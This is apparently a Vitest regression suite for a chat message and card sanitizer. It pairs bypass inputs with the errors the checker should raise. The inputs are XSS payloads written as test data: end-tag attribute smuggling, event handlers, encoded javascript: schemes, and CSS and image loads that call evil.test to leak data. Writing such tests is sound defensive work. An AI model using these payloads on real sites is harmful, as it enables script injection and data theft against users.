import { describe, expect, test } from 'vitest';
import { textToSend } from '../../../src/content/message/check-text.ts';
import { issuesOf as cardIssuesOf, cardOf } from './cards.ts';
import { accepted, html, issuesOf, messageOf, plain } from './messages.ts';

/** Inputs that once passed the checks, each with its error. */
const MESSAGES: readonly (readonly [Record<string, unknown>, RegExp])[] = [
  // Browsers read the attributes of an end tag. Text in their quotes is no tag.
  [html('</p x="><p title="><img src=x onerror=alert(1)>">'), /not allowed in HTML: the tag img/],
  [html('</x y="><i title="><details open ontoggle=alert(4)>a">'), /not allowed in HTML: the tag x/],
  [html('</a href="><a title="><a href=\'javascript:alert(6)\'>x</a>">'), /not allowed in HTML: .*href/],
  [html('</p x="> text <p title="><style>@import url(https://evil.test/7)</style>">'), /the tag style/],
  [html('</b title="><b title=">x'), /an end tag with attributes/],
  // An open tag or quote takes effect in the next message.
  [html("Hi <p title='"), /a tag without its ">"/],
  [html("Hi <img src='https://evil.test/?leak="), /a tag without its ">"/],
  [html('Hi <p title="a'), /a tag without its ">"/],
  [html('Hi <a'), /a tag without its ">"/],
  [html('Hi <!-- '), /a comment or declaration/],
  // A style can load an address in more ways than a list can name.
  [html('<p style="background:u\\72l(https://evil.test/1)">x</p>'), /the attribute style/],
  [html('<p style="background:image-set(\'https://evil.test/3\' 1x)">x</p>'), /the attribute style/],
  [html('<p style="color:red">x</p>'), /the attribute style/],
  // Words that are visible to readers only.
  [plain('mal\u00adware.exe'), /blocked by the pattern/],
  [html('blocked\ufe0f_keyword'), /blocked by the pattern/],
  // Characters that readers cannot see.
  [plain('a\0b'), /U\+0000/],
  [html('a\0b'), /U\+0000/],
  [plain('smile \ud83d end'), /half of a surrogate pair/],
  [plain('a\u0007b'), /U\+0007/],
];

const CARDS: readonly (readonly [Record<string, unknown>, RegExp])[] = [
  [{ title: 'blocked\u034f_keyword' }, /blocked by the pattern/],
  [{ title: '" onclick%0a=alert(1) x="' }, /blocked by the pattern/],
  [{ title: '" onclick%250a=alert(1) x="' }, /blocked by the pattern/],
  [{ title: '%22%20on%63lick%3Dalert(1)' }, /blocked by the pattern/],
  [{ title: '%u003cscript%u003e' }, /blocked by the pattern/],
  [{ actions: [{ label: 'x', value: 'java%0ascript:alert(1)' }] }, /expected a value that is no address/],
  [{ actions: [{ label: 'x', value: '%6aavascript%3aalert(1)' }] }, /expected a value that is no address/],
  [{ title: 'a\0b' }, /U\+0000/],
  [{ title: 'a\ud83d b' }, /half of a surrogate pair/],
];

describe('a message is refused', () => {
  test.for(MESSAGES)('%j', ([body, reason]) => {
    expect(issuesOf(messageOf({ body }))).toEqual([expect.stringMatching(reason)]);
  });
});

describe('a card is refused', () => {
  test.for(CARDS)('%j', ([fields, reason]) => {
    expect(cardIssuesOf(cardOf({ fields })).join()).toMatch(reason);
  });
});

test('a quote that could end an attribute stays in a message as text', () => {
  const { body } = accepted(messageOf({ body: html("' onmouseover=alert(1)>hover me") }));
  expect(textToSend(body.contentType, body.content)).toBe("' onmouseover=alert(1)&gt;hover me");
});

test('ordinary texts of other scripts, with line separators and marks, are accepted', () => {
  for (const text of ['a\u2028b', 'e\u0301', 'line\r\nline\ttab', 'שלום \u200f123\u200e', '👩‍👩‍👧']) {
    expect(issuesOf(messageOf({ body: plain(text) }))).toEqual([]);
    expect(issuesOf(messageOf({ body: html(text) }))).toEqual([]);
  }
});

test('HTML is refused if it is too long with its signs escaped', () => {
  expect(issuesOf(messageOf({ body: html('&'.repeat(4000)) })).join()).toMatch(
    /at most 4096 bytes .* written out, got 20000/,
  );
  expect(issuesOf(messageOf({ body: html('a'.repeat(4096)) }))).toEqual([]);
});
